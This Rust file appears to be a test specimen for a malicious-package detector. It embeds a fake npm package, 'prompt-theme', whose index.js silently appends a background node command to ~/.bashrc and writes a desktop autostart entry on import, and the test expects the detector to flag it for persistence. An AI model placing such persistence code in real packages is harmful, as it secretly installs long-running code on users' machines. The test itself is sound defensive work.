//! An npm package that, when it is imported, adds itself to the shell's start-up file and to the desktop's autostart.
//!
//! Must be found: persistence.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const INDEX: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const start = path.join(os.homedir(), '.config', 'autostart');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\nnode ~/.prompt/agent.js &\n');
fs.mkdirSync(start, { recursive: true });
fs.writeFileSync(path.join(start, 'prompt.desktop'), '[Desktop Entry]\nType=Application\nExec=node agent.js\n');
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("prompt-theme", "0.9.0")
        .field("main", "index.js".into())
        .file("index.js", INDEX);
    Specimen {
        name: "npm-persistence",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["persistence"]),
    }
}
